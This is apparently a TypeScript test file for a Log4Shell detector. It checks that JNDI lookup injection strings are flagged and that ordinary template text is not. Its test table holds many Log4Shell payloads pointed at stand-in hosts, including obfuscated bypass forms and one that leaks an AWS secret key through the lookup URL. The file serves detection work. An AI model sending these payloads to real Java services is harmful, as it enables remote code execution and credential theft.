import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { evaluateLookups, log4shellDetector, mayBeLookup } from '../../src/detect/log4shell.js';
import {
  ANY_PARANOIA,
  describePrefilter,
  expectLinearOnNearMatches,
  expectWellFormedUnderFuzz,
  fuzzValues,
  type Row,
  rowInspector,
} from './helpers.js';

const inspect = rowInspector(log4shellDetector, { location: 'header.user-agent', source: 'header' });

const ROWS: Row[] = [
  { input: '${jndi:ldap://evil.example/a}', expect: true },
  { input: 'Mozilla/5.0 ${jndi:rmi://evil.example:1099/x}', expect: true },
  { input: '${jndi:dns://evil.example}', expect: true },
  { input: '${JNDI:LDAPS://evil.example/x}', expect: true },
  { input: '${jndi:iiop://e.example/x}', expect: true },
  { input: '${${lower:j}ndi:ldap://evil.example/a}', expect: true },
  { input: '${${upper:j}${upper:n}${lower:D}i:ldap://e.example/}', expect: true },
  { input: '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://e.example/a}', expect: true },
  { input: '${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://e.example/a}', expect: true },
  { input: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://e.example/a}", expect: true },
  { input: '$${env:x:-${env:y:-$}{jndi:ldap://e.example/a}}}', expect: true },
  { input: '$&lbrace;jndi:ldap://e.example/a}', expect: true },
  { input: '$\\u007bjndi:ldap://e.example/a}', expect: true },
  { input: '${jndi:ldap://e.example/${env:AWS_SECRET_ACCESS_KEY}}', expect: true },
  { input: '${jndi:ldap://evil.exa', expect: true, note: 'truncated' },
  { input: '${env:AWS_SECRET_ACCESS_KEY}', expect: false },
  { input: '${env:AWS_SECRET_ACCESS_KEY}', expect: true, paranoia: 2 },
  { input: '${sys:java.version}', expect: true, paranoia: 2 },
  // benign
  { input: 'Total: ${amount}', expect: false },
  { input: 'echo ${HOME}/bin', expect: false },
  { input: 'jndi is a Java naming API', expect: false },
  { input: 'price $5 {discount}', expect: false },
  { input: '${user.name} logged in', expect: false, paranoia: 3 },
];

describe('log4shell detector', () => {
  it.each(ROWS)('$input → $expect (PL $paranoia)', (row) => {
    expect(inspect(row).fired).toBe(row.expect);
  });

  it('evaluates nested lookups like Log4j', () => {
    expect(evaluateLookups('${${lower:J}${upper:n}${::-d}i:x}').text.toLowerCase()).toContain('${jndi:x}');
    expect(evaluateLookups('a${env:X:-b}c').text).toBe('abc');
  });

  it('reports the taxonomy ids and the location', () => {
    const [f] = log4shellDetector.compile({ paranoia: 1 })({
      value: 'ua ${jndi:ldap://x/a}',
      location: 'header.user-agent',
      source: 'header',
      profile: 'generic',
    });
    expect(f).toMatchObject({
      category: 'injection',
      subtype: 'code-injection',
      detector: 'log4shell',
      severity: 'critical',
      location: 'header.user-agent',
      fragment: '${jndi:ldap://x/a}',
    });
  });

  it('never throws and always returns well-formed findings (fuzz)', () => {
    const pieces = [
      '$',
      '{',
      '}',
      '${',
      'jndi',
      ':',
      '-',
      '::-',
      'lower:',
      'env:',
      'j',
      'ldap://',
      '$&lbrace;',
      ' ',
    ];
    expectWellFormedUnderFuzz(log4shellDetector, { value: fuzzValues(pieces, 80), paranoia: ANY_PARANOIA });
  });

  it('stays linear on 1 MB of repeated near-matches', () => {
    expectLinearOnNearMatches(log4shellDetector, [
      '${jndi:',
      '${${',
      '${::-j}',
      '$&lbrace;',
      '}',
      '${lower:${',
    ]);
  });
});

describePrefilter('log4shell prefilter (mayBeLookup)', {
  detector: log4shellDetector,
  pre: (v: string) => mayBeLookup(v),
  rows: ROWS,
  token: fc.constantFrom(
    '$',
    '{',
    '}',
    '${',
    'jndi:',
    'ldap:',
    '&lbrace;',
    '\\u007b',
    '%7b',
    '::-',
    'lower:',
    'env:',
    'a',
    '1',
    ' ',
  ),
});
